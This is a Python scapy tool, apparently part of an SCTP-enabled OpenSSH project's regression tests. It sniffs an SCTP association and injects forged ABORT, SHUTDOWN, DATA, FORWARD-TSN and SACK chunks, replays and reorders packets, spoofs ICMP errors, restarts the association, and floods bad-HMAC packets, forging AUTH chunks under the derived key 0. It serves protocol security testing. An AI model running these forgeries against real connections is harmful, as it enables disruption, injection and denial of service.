#!/usr/bin/python3
# sctp-forge: an attacker on the path forges chunks into an association it
# watches, with scapy: the seeds' attacks T1 (a DATA chunk moved to
# another stream or made unordered), T2 (FORWARD-TSN), T3 (DATA), T4
# (ABORT, SHUTDOWN), a forged SACK, a replayed packet and T19 (a flood
# of packets with a bad HMAC).
#
#   sctp-forge.py IFACE[,IFACE...] DPORT MODE...
#	sniff IFACE (or each of a list: an end that answers on the path a
#	packet came on may send its DATA on any) for an association set
#	up to port DPORT: its INIT and
#	INIT ACK (tags, and the SCTP-AUTH parameters from which the kernel
#	derives the association key of key 0, the empty key: RFC 4895 6.1),
#	the responder's DATA (its TSNs) and the initiator's (its TSNs).
#	Then, for each MODE, send the initiator a packet from the responder,
#	with the initiator's tag.  MODE is KIND, KIND-auth0 or KIND-authx:
#	  data      a DATA chunk, unordered on stream 0, with the TSN after
#	            the last one seen, holding INJECTED-BY-THE-PATH
#	  abort     an ABORT chunk
#	  shutdown  a SHUTDOWN chunk acknowledging the initiator's last TSN
#	  fwdtsn    a FORWARD-TSN moving the cumulative TSN 8 past the last
#	            one seen: the responder's next 8 DATA chunks would be
#	            taken for duplicates and dropped
#	  sack      a SACK acknowledging 8 TSNs past the initiator's last:
#	            TSNs never sent (Linux aborts on that)
#	  replay    the responder's last packet with DATA, as it was (its
#	            AUTH chunk, if any, still right; the TSN a duplicate)
#	  reorder   its first DATA chunk (after the packet's AUTH chunk, as
#	            it was) moved to another stream (SID xor 1) with the TSN
#	            after the last one seen: the seeds' T1
#	  ubit      the same chunk with the TSN after the last and the U bit
#	            set (delivered unordered): T1
#	  flood     FORGE_FLOOD (default 2000) packets as fast as they go,
#	            each an AUTH chunk with the key identifier and HMAC
#	            algorithm of the server's last one and random bytes for
#	            the HMAC, then a DATA chunk of 100 random bytes, TSNs
#	            from the next one on: the seeds' T19, what it costs the
#	            receiver to verify and drop them; prints "flood N
#	            packets in T s"
#	  tags      sends nothing: prints "tags SRC DST SPORT DPORT TAG KEYID
#	            HMACID TSN", what a flood of the same packets as flood's
#	            from another tool needs (regress/sctp-flood.c auth-data)
#	  icmp-mtu     an ICMP "fragmentation needed" (MTU 296) for the
#	               initiator's packets to the responder (IPv4; the seeds'
#	               T14), from the responder's address
#	  icmp-unreach an ICMP "protocol unreachable" for them (T14)
#	  restart   (run on the initiator's path: regress/vm/sshlib.sh's
#	            FORGE_HOST a) a restart of the association (T4,
#	            PROTOCOL.sctp 2.12):
#	            the initiator's INIT again, from its address and port,
#	            with a new tag and TSN and every parameter as it was
#	            (SCTP-AUTH's, so that nothing changes), then a COOKIE
#	            ECHO with the cookie of the responder's INIT ACK, which
#	            the sniffer sees go to the initiator; prints "restart
#	            answered" or "restart unanswered"
#	FORGE_SRC: the source address of the packets of these modes but
#	flood and icmp (default the responder's that the sniffer saw), e.g.
#	another address of the responder's.
#	-auth0 puts an AUTH chunk with key 0 and the right HMAC in front, as
#	an attacker who saw the set-up can compute it; -authx one with a key
#	identifier no end uses (65534) and random bytes for the HMAC, as a
#	chunk under the random key of ssh's restart (PROTOCOL.sctp 2.12)
#	arrives; without either the chunk
#	goes alone.  "plain" and "auth0" are data and data-auth0.
#	Sends once DELAY seconds (env FORGE_DELAY, default 0) have passed
#	since the first DATA, the file FORGE_GO exists if that is set, and
#	neither side sent DATA for 1 s (so the TSNs are current); 2 s
#	between modes.  Prints "sniffing",
#	"learned", then "sent MODE" for each; exits 1 if it saw no
#	association within 240 s.  Each "sent" line ends "at UPTIME", the
#	host's /proc/uptime when it was sent.
#
# Copyright (c) 2026 The openssh-sctp authors.  BSD licence: see LICENCE.

import hashlib
import hmac
import os
import struct
import sys
import time

from forgelib import sniff_until
from scapy.all import ICMP, IP, Ether, IPv6, Raw, conf, send
from scapy.layers.sctp import SCTP

conf.verb = 0
iface, dport = sys.argv[1].split(","), int(sys.argv[2])
modes = sys.argv[3:]
delay = float(os.environ.get("FORGE_DELAY", "0"))
go = os.environ.get("FORGE_GO")
st = {"tsn": None, "ctsn": None, "mac": {}}
payload = b"INJECTED-BY-THE-PATH\n\n\n\n"	# 24 bytes: no padding


def uptime():
    with open("/proc/uptime") as f:
        return f.read().split()[0]


def ip_of(p):
    return p[IP] if IP in p else p[IPv6]


def chunks(raw):
    off = 0
    while off + 4 <= len(raw):
        ctype, flags, clen = struct.unpack("!BBH", raw[off:off + 4])
        if clen < 4:
            return
        yield ctype, flags, raw[off:off + clen]
        off += (clen + 3) & ~3


def auth_params(chunk):
    """RANDOM, CHUNKS and HMAC-ALGO TLVs of an INIT or INIT ACK."""
    found, off = {}, 20
    while off + 4 <= len(chunk):
        ptype, plen = struct.unpack("!HH", chunk[off:off + 4])
        if plen < 4:
            break
        if ptype in (0x8002, 0x8003, 0x8004):
            found[ptype] = chunk[off:off + plen]
        off += (plen + 3) & ~3
    return found


def param(chunk, ptype):
    """The value of an INIT ACK's parameter."""
    off = 20
    while off + 4 <= len(chunk):
        t, plen = struct.unpack("!HH", chunk[off:off + 4])
        if plen < 4:
            break
        if t == ptype:
            return chunk[off + 4:off + plen]
        off += (plen + 3) & ~3
    return None


def vector(params):
    return params.get(0x8002, b"") + params.get(0x8003, b"") + \
        params.get(0x8004, b"")


def hmac_ids(params):
    v = params.get(0x8004, b"")[4:]
    return [struct.unpack("!H", v[i:i + 2])[0] for i in range(0, len(v), 2)]


def watch(p):
    if SCTP not in p:
        return
    s = p[SCTP]
    raw = bytes(s.payload)
    # Once its INIT is seen, only this association's packets (an earlier
    # association to the port may still be there).
    if "init" in st and st["init"][2] not in (s.sport, s.dport):
        return
    # Each address's MAC as seen on the wire (several interfaces may be
    # sniffed): the initiator's, for our packets, and the responder's
    # (restart).
    if Ether in p:
        st["mac"][ip_of(p).src] = p[Ether].src
    for ctype, flags, c in chunks(raw):
        if ctype == 1 and s.dport == dport and "init" not in st:
            st["init"] = (ip_of(p).src, ip_of(p).dst, s.sport,
                          struct.unpack("!I", c[4:8])[0], auth_params(c))
            st["initraw"] = c
        elif ctype == 2 and s.sport == dport and "ftag" in st and \
                s.tag == st["ftag"]:
            st["fpeer"] = struct.unpack("!I", c[4:8])[0]
            st["fcookie"] = param(c, 7)
        elif ctype == 2 and "init" in st and s.sport == dport:
            st["initack"] = (struct.unpack("!I", c[4:8])[0],
                             auth_params(c))
        elif ctype == 0x0f and "initack" in st and s.sport == dport and \
                "genuine" not in st:
            st["genuine"] = raw[raw.index(c):]
        elif ctype == 0 and "initack" in st and s.sport == dport and \
                os.environ.get("FORGE_DEBUG") and "dbg" not in st:
            st["dbg"] = 1
            print("genuine " + repr(p), flush=True)
        elif ctype == 0 and "initack" in st and s.dport == dport:
            tsn = struct.unpack("!I", c[4:8])[0]
            if st["ctsn"] is None or tsn > st["ctsn"]:
                st["ctsn"] = tsn
            st["clast"] = time.time()
        elif ctype == 0 and "initack" in st and s.sport == dport and \
                payload in c:
            pass	# our own forgery, seen by the sniffer too
        elif ctype == 0 and "initack" in st and s.sport == dport:
            st["lastraw"] = raw
            tsn = struct.unpack("!I", c[4:8])[0]
            if st["tsn"] is None or tsn > st["tsn"]:
                st["tsn"] = tsn
                st["tsnon"] = getattr(p, "sniffed_on", None) or "?"
            st["last"] = time.time()
            if "first" not in st:
                st["first"] = time.time()


def ready():
    """DELAY after the first DATA, FORGE_GO there, both sides quiet."""
    now = time.time()
    return "first" in st and now - st["first"] >= delay and \
        (go is None or os.path.exists(go)) and now - st["last"] >= 1 and \
        now - st.get("clast", 0) >= 1


# The sniffer runs on; the packets go when ready() (at most 240 s).
sniff_until(iface, watch, ready, 240 + delay)
if st["tsn"] is None:
    print("no association seen", flush=True)
    os._exit(1)	# the sniffer's thread too
csrc, sdst, cport, ctag, cparams = st["init"]
stag, sparams = st["initack"]
print("learned client tag %08x, server tsn %d (on %s), auth %s" %
      (ctag, st["tsn"], st["tsnon"], "yes" if cparams and sparams else "no"),
      flush=True)
v1, v2 = vector(cparams), vector(sparams)
# Key 0 is the empty shared key; the smaller vector (as a number) first.
if int.from_bytes(v1, "big") < int.from_bytes(v2, "big"):
    secret = v1 + v2
else:
    secret = v2 + v1
# The receiver (the initiator) verifies with an algorithm of its list.
hid = 3 if 3 in hmac_ids(cparams) else 1
digest = hashlib.sha256 if hid == 3 else hashlib.sha1
hlen = digest().digest_size
if "genuine" in st:
    # The responder's own AUTH chunk under key 0, as a check of the above.
    g = st["genuine"]
    glen = struct.unpack("!H", g[2:4])[0]
    gid = struct.unpack("!H", g[6:8])[0]
    gd = hashlib.sha256 if gid == 3 else hashlib.sha1
    calc = hmac.new(secret, g[:8] + b"\0" * (glen - 8) + g[glen:],
                    gd).digest()
    print("check: the responder's HMAC (id %d) %s" %
          (gid, "matches" if calc == g[8:glen] else "differs"), flush=True)
net = IPv6 if ":" in csrc else IP
# scapy's own neighbour lookup timed out on a loaded VM, and a packet to
# the broadcast address is not for SCTP (PACKET_HOST only): use the
# initiator's address as seen on the wire.
if csrc in st["mac"]:
    if net is IP:
        conf.netcache.arp_cache[csrc] = st["mac"][csrc]
    else:
        conf.netcache.in6_neighbor[csrc] = st["mac"][csrc]


def genuine(kind):
    """The responder's last packet with DATA: as it was (replay), or its
    AUTH chunk, if any, and its first DATA chunk, rewritten (T1)."""
    raw = st["lastraw"]
    if kind == "replay":
        return raw
    auth = b""
    for ctype, flags, c in chunks(raw):
        if ctype == 0x0f:
            auth = raw[raw.index(c):raw.index(c) + ((len(c) + 3) & ~3)]
        if ctype != 0:
            continue
        d = bytearray(c + b"\0" * (-len(c) & 3))
        struct.pack_into("!I", d, 4, (st["tsn"] + 1) & 0xffffffff)
        if kind == "reorder":
            sid = struct.unpack("!H", bytes(d[8:10]))[0]
            struct.pack_into("!H", d, 8, sid ^ 1)
        else:
            d[1] |= 0x04
        return auth + bytes(d)
    raise SystemExit("no DATA chunk of the responder's to rewrite")


def chunk(kind):
    if kind in ("replay", "reorder", "ubit"):
        return genuine(kind)
    tsn = (st["tsn"] + 1) & 0xffffffff
    ctsn = st["ctsn"] if st["ctsn"] is not None else 0
    if kind == "data":
        # The next TSN: the sender must be idle then, or its own chunk
        # comes first.  (The receiver's SACK then acknowledges a TSN the
        # sender has not sent: Linux aborts the association on that.)
        return struct.pack("!BBHIHHI", 0, 0x07, 16 + len(payload), tsn,
                           0, 0, 0) + payload
    if kind == "abort":
        return struct.pack("!BBH", 6, 0, 4)
    if kind == "shutdown":
        return struct.pack("!BBHI", 7, 0, 8, ctsn)
    if kind == "fwdtsn":
        return struct.pack("!BBHI", 192, 0, 8, (tsn + 7) & 0xffffffff)
    if kind == "sack":
        return struct.pack("!BBHIIHH", 3, 0, 16, (ctsn + 8) & 0xffffffff,
                           65536, 0, 0)
    raise SystemExit("unknown mode " + kind)


def restart():
    """T4: INIT and COOKIE ECHO as the initiator, unchanged but its tag."""
    init = bytearray(st["initraw"] + b"\0" * (-len(st["initraw"]) & 3))
    tag = struct.unpack("!I", os.urandom(4))[0] | 1
    struct.pack_into("!I", init, 4, tag)
    struct.pack_into("!I", init, 16, struct.unpack("!I", os.urandom(4))[0])
    st["ftag"] = tag
    if sdst in st["mac"]:
        if net is IP:
            conf.netcache.arp_cache[sdst] = st["mac"][sdst]
        else:
            conf.netcache.in6_neighbor[sdst] = st["mac"][sdst]
    send(net(src=csrc, dst=sdst) / SCTP(sport=cport, dport=dport, tag=0) /
         Raw(bytes(init)))
    t0 = time.time()
    while st.get("fcookie") is None and time.time() - t0 < 10:
        time.sleep(0.1)
    if st.get("fcookie") is None:
        print("restart unanswered", flush=True)
        return
    ck = st["fcookie"]
    body = struct.pack("!BBH", 10, 0, 4 + len(ck)) + ck + \
        b"\0" * (-len(ck) & 3)
    send(net(src=csrc, dst=sdst) /
         SCTP(sport=cport, dport=dport, tag=st["fpeer"]) / Raw(body))
    print("restart answered", flush=True)


def flood(n):
    """T19: packets that pass every check but the HMAC's."""
    raw, kid, hid2 = st["lastraw"], 0, hid
    for ctype, flags, c in chunks(raw):
        if ctype == 0x0f:
            kid, hid2 = struct.unpack("!HH", c[4:8])
    hl = 32 if hid2 == 3 else 20
    pkts = []
    for i in range(n):
        auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hl, kid, hid2) + \
            os.urandom(hl)
        data = struct.pack("!BBHIHHI", 0, 0x03, 16 + 100,
                           (st["tsn"] + 1 + i) & 0xffffffff, 0, 0, 0) + \
            os.urandom(100)
        pkts.append(net(src=sdst, dst=csrc) /
                    SCTP(sport=dport, dport=cport, tag=ctag) /
                    Raw(auth + data))
    t0 = time.time()
    send(pkts)
    print("flood %d packets in %.1f s (key %d, HMAC %d)" %
          (n, time.time() - t0, kid, hid2), flush=True)


for i, mode in enumerate(modes):
    mode = {"plain": "data", "auth0": "data-auth0"}.get(mode, mode)
    kind, _, how = mode.partition("-")
    # Both sides quiet again (the sniffer keeps the TSNs current).
    t0 = time.time()
    while not ready() and time.time() - t0 < 10:
        time.sleep(0.1)
    if kind == "icmp":
        # What the initiator sent the responder, quoted (its tag is the
        # responder's), in the error a router on the path would send.
        icmp = ICMP(type=3, code=4, nexthopmtu=296) if how == "mtu" else \
            ICMP(type=3, code=2)
        send(IP(src=sdst, dst=csrc) / icmp /
             IP(src=csrc, dst=sdst, proto=132) /
             SCTP(sport=cport, dport=dport, tag=stag))
        print("sent %s at %s" % (mode, uptime()), flush=True)
        time.sleep(2)
        continue
    if kind == "tags":
        kid, hid2 = 0, hid
        for ctype, flags, c in chunks(st["lastraw"]):
            if ctype == 0x0f:
                kid, hid2 = struct.unpack("!HH", c[4:8])
        print("tags %s %s %d %d 0x%08x %d %d %d" %
              (sdst, csrc, dport, cport, ctag, kid, hid2,
               (st["tsn"] + 1) & 0xffffffff), flush=True)
        print("sent %s at %s" % (mode, uptime()), flush=True)
        continue
    if kind == "restart":
        restart()
        print("sent %s at %s" % (mode, uptime()), flush=True)
        time.sleep(2)
        continue
    if kind == "flood":
        flood(int(os.environ.get("FORGE_FLOOD", "2000")))
        print("sent %s at %s" % (mode, uptime()), flush=True)
        time.sleep(2)
        continue
    body = chunk(kind)
    if how == "auth0" and kind not in ("replay", "reorder", "ubit"):
        auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hlen, 0, hid)
        mac = hmac.new(secret, auth + b"\0" * hlen + body, digest).digest()
        body = auth + mac + body
    elif how == "authx" and kind not in ("replay", "reorder", "ubit"):
        auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hlen, 65534, hid)
        body = auth + os.urandom(hlen) + body
    pkt = (net(src=os.environ.get("FORGE_SRC", sdst), dst=csrc) /
           SCTP(sport=dport, dport=cport, tag=ctag) / Raw(body))
    if os.environ.get("FORGE_DEBUG"):
        print(repr(net(bytes(pkt))), flush=True)
    send(pkt)
    print("sent %s (responder tsn %d, initiator tsn %s) at %s" %
          (mode, st["tsn"], st["ctsn"], uptime()), flush=True)
    time.sleep(2)
sys.stdout.flush()
os._exit(0)
